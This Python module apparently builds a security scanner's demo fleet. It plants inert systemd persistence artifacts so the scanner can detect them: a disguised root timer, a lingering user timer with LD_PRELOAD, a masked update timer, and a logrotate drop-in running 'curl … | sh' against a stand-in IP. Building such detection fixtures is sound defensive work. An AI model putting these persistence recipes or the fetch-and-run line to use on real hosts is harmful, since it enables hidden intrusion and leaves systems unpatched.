"""What goes wrong in the demo between its two sweeps: four plants on hosts, and three hosts that can no longer be read.

Everything here is text in a folder. The scripts that the plants name lie there, and do nothing.
"""

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from enum import StrEnum

from fleetscan.demo.image import ADMIN, DemoHost, enable_unit
from fleetscan.demo.stock import service_text, timer_text
from fleetscan.demo.tree import HostTree, TreeFile


class Trouble(StrEnum):
    """The kinds of trouble."""

    TIMER_PAIR = "timer pair"
    USER_TIMER = "user timer"
    DROP_IN = "drop-in"
    MASK = "mask"
    BROKEN = "broken"
    UNREACHABLE = "unreachable"
    CHANGED_KEY = "changed key"


@dataclass(frozen=True, slots=True)
class Plant:
    """One thing that went wrong. `words` say it for the reader of the demo."""

    host: str
    trouble: Trouble
    words: str


@dataclass(frozen=True, slots=True)
class _Idea:
    """A trouble and the host it happens to: the `ordinal`-th host (from 1) of a role, when there are that many."""

    trouble: Trouble
    role: str
    ordinal: int
    words: str


_IDEAS = (
    _Idea(
        Trouble.TIMER_PAIR,
        "web",
        7,
        "an attacker's timer and service, named like a system part, run /var/tmp/.cache/upd as root every minute",
    ),
    _Idea(
        Trouble.USER_TIMER,
        "web",
        4,
        "a timer in the home of deploy, kept alive without a login by lingering; no root rights were needed",
    ),
    _Idea(
        Trouble.DROP_IN,
        "db",
        3,
        "a two-line drop-in makes the vendor's logrotate.service fetch and run a script; the unit itself is unchanged",
    ),
    _Idea(Trouble.MASK, "db", 4, "apt-daily-upgrade.timer is masked: this host no longer installs security updates"),
    _Idea(Trouble.BROKEN, "web", 5, "answers with junk instead of the probe's output"),
    _Idea(Trouble.UNREACHABLE, "db", 5, "its SSH port refuses connections"),
    _Idea(Trouble.CHANGED_KEY, "web", 2, "shows another host key than the one that was enrolled"),
)

_PAYLOAD = "#!/bin/sh\n# In an attack, what comes next would be here.\nexit 0\n"


def choose_plants(hosts: Sequence[DemoHost]) -> tuple[Plant, ...]:
    """Choose the victims among the hosts; always the same for the same fleet."""
    plants = []
    for idea in _IDEAS:
        members = [host.name for host in hosts if host.role.name == idea.role]
        plants.append(Plant(members[idea.ordinal - 1], idea.trouble, idea.words))
    return tuple(plants)


def plant_timer_pair(tree: HostTree) -> None:
    """T1053.006 in its plain form: a new timer and service, enabled."""
    timer = timer_text("Refresh of the message cache", "OnCalendar=minutely", "AccuracySec=1s")
    service = service_text("Refresh of the message cache", "Type=oneshot", "ExecStart=/var/tmp/.cache/upd -q")
    tree.files[f"{ADMIN}/dbus-cache-refresh.timer"] = TreeFile(timer)
    tree.files[f"{ADMIN}/dbus-cache-refresh.service"] = TreeFile(service)
    tree.files["var/tmp/.cache/upd"] = TreeFile(_PAYLOAD, 0o755)
    tree.modes["var/tmp/.cache"] = 0o777  # so that no further root rights are needed to replace it
    enable_unit(tree, "dbus-cache-refresh.timer", timer, f"/{ADMIN}/dbus-cache-refresh.timer")


def plant_user_timer(tree: HostTree) -> None:
    """A user's own timer, with lingering so that it runs without a login."""
    folder = "home/deploy/.config/systemd/user"
    timer = timer_text("Desktop index", "OnCalendar=hourly")
    tree.files[f"{folder}/desktop-index.timer"] = TreeFile(timer)
    tree.files[f"{folder}/desktop-index.service"] = TreeFile(
        service_text(
            "Desktop index",
            "Type=oneshot",
            "ExecStart=/home/deploy/.local/share/.index/run",
            "EnvironmentFile=-%h/.config/.desktop-index",
        )
    )
    tree.files["home/deploy/.config/.desktop-index"] = TreeFile(
        "INDEX_DEPTH=3\nLD_PRELOAD=/home/deploy/.local/share/.index/libindex.so\n"
    )
    enable_unit(tree, "desktop-index.timer", timer, f"/{folder}/desktop-index.timer", folder)
    tree.files["home/deploy/.local/share/.index/run"] = TreeFile(_PAYLOAD, 0o755)
    tree.files["var/lib/systemd/linger/deploy"] = TreeFile("")


def plant_drop_in(tree: HostTree) -> None:
    """A vendor's unit that does one thing more."""
    tree.files[f"{ADMIN}/logrotate.service.d/10-compress.conf"] = TreeFile(
        "[Service]\nExecStartPost=-/bin/sh -c 'curl -fsS http://198.51.100.7/c | sh'\n"
    )


def mask_update_timer(tree: HostTree) -> None:
    """What `systemctl mask --now apt-daily-upgrade.timer` leaves."""
    tree.links[f"{ADMIN}/apt-daily-upgrade.timer"] = "/dev/null"


TREE_TROUBLES: dict[Trouble, Callable[[HostTree], None]] = {
    Trouble.TIMER_PAIR: plant_timer_pair,
    Trouble.USER_TIMER: plant_user_timer,
    Trouble.DROP_IN: plant_drop_in,
    Trouble.MASK: mask_update_timer,
}
"""The troubles that change a tree; the other ones concern the host's SSH server."""
